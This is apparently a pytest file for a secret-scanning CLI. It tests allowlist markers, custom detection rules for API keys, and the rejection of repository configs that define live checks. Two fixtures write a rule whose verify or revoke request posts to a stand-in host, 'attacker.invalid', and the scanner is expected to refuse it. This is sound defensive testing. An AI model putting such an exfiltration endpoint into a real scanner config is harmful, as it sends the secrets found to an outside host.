"""Repository config (.leakscan.toml) and inline markers, through the CLI."""

from __future__ import annotations

import json
import random
import string
from pathlib import Path

from tokens import github_token


def scan_json(run, folder: Path, *args: str) -> tuple[int, dict]:
    result = run("scan", ".", "--format", "json", "--no-progress", *args, cwd=folder)
    assert result.returncode in (0, 1), result.stderr
    return result.returncode, json.loads(result.stdout)


def found(report: dict) -> list[tuple[str, int, str]]:
    return [(f["path"], f["line"], f["rule_id"]) for f in report["findings"]]


def marked_file(folder: Path) -> None:
    lines = [
        f'a = "{github_token(1)}"',
        f'b = "{github_token(2)}"  # leakscan:allow',
        f'c = "{github_token(3)}"  # gitleaks:allow',
        f'd = "{github_token(4)}"  # pragma: allowlist secret',
        "# pragma: allowlist nextline secret",
        f'e = "{github_token(5)}"',
        f'f = "{github_token(6)}"',
    ]
    (folder / "keys.py").write_text("\n".join(lines) + "\n")


def test_other_scanners_markers_count_by_default(run, tmp_path):
    marked_file(tmp_path)
    code, report = scan_json(run, tmp_path)
    assert code == 1
    assert found(report) == [("keys.py", 1, "github-pat-classic"), ("keys.py", 7, "github-pat-classic")]
    assert report["scan"]["suppressed"] == {"inline": 4}


def test_config_can_turn_other_markers_off(run, tmp_path):
    marked_file(tmp_path)
    (tmp_path / ".leakscan.toml").write_text('[allowlist]\nmarkers = ["gitleaks:allow"]\n')
    _, report = scan_json(run, tmp_path)
    assert [line for _, line, _ in found(report)] == [1, 4, 6, 7]
    (tmp_path / ".leakscan.toml").write_text("[allowlist]\nmarkers = []\n")
    _, report = scan_json(run, tmp_path)
    assert [line for _, line, _ in found(report)] == [1, 3, 4, 6, 7]  # leakscan:allow always counts
    assert report["scan"]["suppressed"] == {"inline": 1}


def test_unknown_marker_is_a_clear_error(run, tmp_path):
    (tmp_path / ".leakscan.toml").write_text('[allowlist]\nmarkers = ["nosec"]\n')
    result = run("scan", ".", cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.decode().strip() == (
        "leakscan: error: "
        f"{tmp_path / '.leakscan.toml'}: allowlist.markers: 'nosec' is not one of "
        "'gitleaks:allow', 'pragma: allowlist secret'"
    )


def acme_key(seed: int) -> str:
    rng = random.Random(seed)
    return "acme_" + "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(32))


EXTRA_RULE = """
[[rules.extra]]
id = "acme-api-key"
name = "Acme API key"
provider = "acme"
severity = "high"
pattern = '\\b(acme_[a-z0-9]{{32}})\\b'
keywords = ["acme_"]
examples = ["{example}"]
{extra}
"""


def test_config_adds_detection_rules(run, tmp_path, engine):
    key = acme_key(1)
    (tmp_path / ".leakscan.toml").write_text(EXTRA_RULE.format(example=acme_key(2), extra=""))
    (tmp_path / "deploy.sh").write_text(f"export ACME={key}\n")
    code, report = scan_json(run, tmp_path, "--engine", engine)
    assert code == 1
    (finding,) = report["findings"]
    assert (finding["rule_id"], finding["provider"], finding["severity"]) == ("acme-api-key", "acme", "high")
    assert (finding["path"], finding["line"], finding["column"]) == ("deploy.sh", 1, 13)
    assert finding["secret"] == f"{key[:4]}…{key[-2:]}"
    assert report["scan"]["suppressed"] == {"allowlist": 1}  # the rule's own example, in .leakscan.toml


def test_config_rule_files_and_disable(run, tmp_path, engine):
    (tmp_path / "ci").mkdir()
    (tmp_path / "ci" / "acme.yml").write_text(
        "provider: acme\nrules:\n  - id: acme-api-key\n    name: Acme API key\n    severity: high\n"
        "    pattern: '\\b(acme_[a-z0-9]{32})\\b'\n    keywords: [acme_]\n"
        f"    examples: ['{acme_key(2)}']\n"
    )
    (tmp_path / ".leakscan.toml").write_text('[rules]\nfiles = ["ci/acme.yml"]\n')
    (tmp_path / "deploy.sh").write_text(f"export ACME={acme_key(3)}\n")
    code, report = scan_json(run, tmp_path, "--engine", engine)
    assert (code, found(report)) == (1, [("deploy.sh", 1, "acme-api-key")])
    (tmp_path / ".leakscan.toml").write_text('[rules]\nfiles = ["ci/acme.yml"]\ndisable = ["acme-api-key"]\n')
    code, report = scan_json(run, tmp_path, "--engine", engine)
    assert (code, found(report)) == (0, [])


def test_config_can_never_define_live_checks(run, tmp_path):
    live = '[rules.extra.verify.request]\nurl = "https://attacker.invalid/collect"\nmethod = "POST"\n'
    (tmp_path / ".leakscan.toml").write_text(EXTRA_RULE.format(example=acme_key(2), extra=live))
    (tmp_path / "deploy.sh").write_text(f"export ACME={acme_key(1)}\n")
    result = run("scan", ".", cwd=tmp_path)
    assert result.returncode == 2
    assert result.stdout == b""
    assert result.stderr.decode().strip() == (
        f"leakscan: error: {tmp_path / '.leakscan.toml'}: rules.extra: rule 'acme-api-key': field 'verify': "
        "a repository config cannot define live checks or endpoints (a scanned repository may be hostile); "
        "pass rules with live checks with --rules"
    )


def test_config_rule_file_with_revoke_is_rejected(run, tmp_path):
    (tmp_path / "acme.yml").write_text(
        "provider: acme\nrules:\n  - id: acme-api-key\n    name: Acme API key\n    severity: high\n"
        "    pattern: '\\b(acme_[a-z0-9]{32})\\b'\n    keywords: [acme_]\n"
        f"    examples: ['{acme_key(2)}']\n    revoke: {{request: {{url: 'https://attacker.invalid/'}}}}\n"
    )
    (tmp_path / ".leakscan.toml").write_text('[rules]\nfiles = ["acme.yml"]\n')
    result = run("scan", ".", cwd=tmp_path)
    assert result.returncode == 2
    assert "rule 'acme-api-key': field 'revoke': a repository config cannot define live checks" in (
        result.stderr.decode()
    )


def test_config_rule_may_not_replace_a_builtin_rule(run, tmp_path):
    clash = EXTRA_RULE.format(example=acme_key(2), extra="").replace("acme-api-key", "github-pat-classic")
    (tmp_path / ".leakscan.toml").write_text(clash)
    result = run("scan", ".", cwd=tmp_path)
    assert result.returncode == 2
    stderr = result.stderr.decode()
    assert "rules.extra: rule 'github-pat-classic': field 'id': already defined in" in stderr
    assert stderr.rstrip().endswith("github.yml")
